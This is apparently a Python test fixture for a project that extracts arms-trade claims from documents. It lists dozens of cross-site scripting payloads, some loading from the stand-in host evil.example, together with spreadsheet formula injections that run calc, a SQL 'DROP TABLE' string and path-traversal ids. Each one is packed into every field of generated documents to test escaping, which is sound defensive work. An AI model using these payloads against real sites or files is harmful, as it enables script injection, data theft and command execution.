"""Strings that attack a page, and documents that hold them in every field.

Each string, were it executed, would call `pwned`, or open a dialog, or load or lead to something elsewhere.
"""

from __future__ import annotations

import re

from followthearms.model import Bound, Claim, DateRange, Document, Equipment, Kind, Money, Party, Quantity, Span
from followthearms.model.claims import Method
from followthearms.model.spans import Extent

STRINGS = [
    # elements
    "<script>pwned(1)</script>",
    "</script><script>pwned(2)</script>",
    "<img src=x onerror=pwned(3)>",
    "<svg/onload=pwned(4)>",
    "<iframe srcdoc='<script>parent.pwned(10)</script>'></iframe>",
    "<a href=javascript:pwned(16)>click</a>",
    "<base href=//evil.example/><form action=//evil.example/17><button>ok</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned(18)>",
    "<ScRiPt\n>pwned(21)</sCrIpT\t>",
    "<scr<script>ipt>pwned(22)</scr</script>ipt>",
    "<body onload=pwned(23)><body onpageshow=pwned(23)>",
    "<details open ontoggle=pwned(24)><summary>x</summary></details>",
    "<video><source onerror=pwned(25)></video><audio src=x onerror=pwned(25)>",
    "<input autofocus onfocus=pwned(26)><select autofocus onfocus=pwned(26)>",
    "<object data='javascript:pwned(27)'></object><embed src='javascript:pwned(27)'>",
    "<marquee onstart=pwned(28)>x</marquee>",
    "<link rel=stylesheet href=//evil.example/29.css><link rel=prefetch href=//evil.example/29>",
    "<style>@import '//evil.example/30.css';body{display:none}</style>",
    "<template><script>pwned(31)</script></template><noscript><p title='</noscript><img src=x onerror=pwned(31)>'>",
    "<img src='//evil.example/32.png' srcset='//evil.example/32 2x'><bgsound src=//evil.example/32>",
    "<dialog open><form method=dialog><button autofocus onfocus=pwned(33)>x</button></form></dialog>",
    # attributes
    '"><script src=//evil.example/5.js></script>',
    "' onmouseover='pwned(6)' x='",
    '" autofocus onfocus=pwned(7) x="',
    "`onmouseover=pwned(34)`",
    "x onanimationstart=pwned(35) style=animation-name:spin",
    '" style="position:fixed;inset:0;background:url(//evil.example/36)" x="',
    '" formaction="javascript:pwned(37)" type="image" src="x" onerror="pwned(37)',
    "' accesskey='x' onclick='pwned(38)' contenteditable='",
    '"/><svg><animate onbegin=pwned(39) attributeName=x dur=1s>',
    # addresses
    "javascript:pwned(8)",
    "data:text/html,<script>pwned(9)</script>",
    "JaVaScRiPt:pwned(40)",
    "java\tscript\n:pwned(41)",
    "\x01 javascript:pwned(42)//https://evil.example/",
    "vbscript:pwned(43)",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoNDQpIi8+",
    "//evil.example/45",
    "/\\evil.example/46",
    'https://evil.example/"onmouseover="pwned(47)',
    "blob:https://evil.example/48",
    # the ends of what a page puts a string into
    "]]><script>pwned(12)</script><!--",
    "--><svg onload=pwned(13)><!--",
    "</title><script>pwned(14)</script>",
    "</textarea></style><script>pwned(15)</script>",
    '</bdi></a></main><math><mi//xlink:href="data:x,<script>pwned(20)</script>">',
    '"}</script><script>pwned(49)</script><script type="application/ld+json">{"x":"',
    "<!--<script>pwned(50)",
    "</td></tr></table></select></option></dd></li><img src=x onerror=pwned(51)>",
    "\u2028pwned(52)\u2029//';pwned(52);\"",
    "\\u003cscript\\u003epwned(53)\\u003c/script\\u003e",
    # SVG and MathML
    "<svg><script href=data:,pwned(54) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned(55)>#x'/></svg>",
    "<svg><a xlink:href=javascript:pwned(56)><text y=20>x</text></a><set attributeName=href to=javascript:pwned(56)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(57)&gt;'>",
    "<svg><foreignObject><body onload=pwned(58) xmlns='http://www.w3.org/1999/xhtml'></foreignObject></svg>",
    # templates, entities, encodings
    "{{ 7*7 }}{% raw %}{{ pwned(11) }}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('pwned(59)')()}}",
    "&lt;script&gt;pwned(60)&lt;/script&gt;&#60;img src=x onerror=pwned(60)&#62;",
    "%3Cscript%3Epwned(61)%3C/script%3E+ADw-script+AD4-pwned(61)+ADw-/script+AD4-",
    "＜script＞pwned(62)＜/script＞ ʺ onfocus=pwned(62) ʺ",
    "\u202e<b onclick=pwned(19)>\u2066 \u0007 gnitirw \ud800",
    "a\x00b<scr\x00ipt>pwned(63)</scr\x00ipt>\x1b]8;;http://evil.example\x07",
    "\u202a\u202b\u2067)deretrop ton(\u200b\u200d\ufeff <i onclick=pwned(64)>",
    # styles and formulas
    "}*{background:url(javascript:pwned(65));x:expression(pwned(65))}",
    '=HYPERLINK("http://evil.example/66";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1\t=1+1\r\n=2+2",
    # all at once, and long
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned(70) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned(70)//>\\x3e",
    "x" * 400 + "<script>pwned(71)</script>" + "\u0301" * 100 + "<img src=x onerror=pwned(71)>",
    "'; DROP TABLE claims; --<img src=x onerror=pwned(72)>",
]

ADDRESSES = ["javascript:pwned('url')", "data:text/html,<script>pwned('url')</script>", "http://[", "//evil.example/"]

_UNSTORABLE = re.compile("[\x00\ud800-\udfff]")


def storable(string: str) -> str:
    """What of a string can be in a text: nulls and halves of characters are refused there."""
    return _UNSTORABLE.sub("", string)


def hostile_documents() -> list[Document]:
    """A document for each string, its fields and the slots of its claims all made of it; ids and paths too."""
    return [_document(n, storable(string)) for n, string in enumerate(STRINGS)]


def _document(number: int, string: str) -> Document:
    text = "\n".join([string] * 12)
    length = len(string) + 1

    def at(place: int) -> dict[str, object]:
        return {"start": place * length, "end": place * length + length - 1, "text": string}

    claims = [
        Claim(
            id=f"{string}/{kind.value}",
            kind=(kind,),
            evidence=Extent(start=0, end=len(text)),
            trigger=Span(**at(0)),
            supplier=(Party(**at(1), code=string.upper()),),
            recipient=(Party(**at(2), code="IN"),),
            speaker=(Party(**at(3)),),
            company=(Span(**at(4)),),
            persons=(Span(**at(5)),),
            medium=Span(**at(6)),
            equipment=(
                Equipment(
                    **at(7),
                    designation=string,
                    category=string,
                    quantity=Quantity(**at(8), number=(number + 2) * (1 + 9 * place), bound=Bound.ABOUT, unit=string),
                ),
            ),
            value=Money(**at(9), amount=5, currency=string, per=string),
            date=DateRange(**at(10)),
            place=Span(**at(11)),
            method=Method(by=string, rule=string),
        )
        for place, kind in enumerate((Kind.AGREEMENT, Kind.DELIVERY))
    ]
    return Document(
        id=f"../{string}/{number}.json",
        title=string,
        date="2020-01-02",
        date_basis=string,
        outlet=string,
        url=string if number % 2 else ADDRESSES[number // 2 % len(ADDRESSES)],
        language=string,
        licence=string,
        text=text,
        claims=tuple(claims),
    )
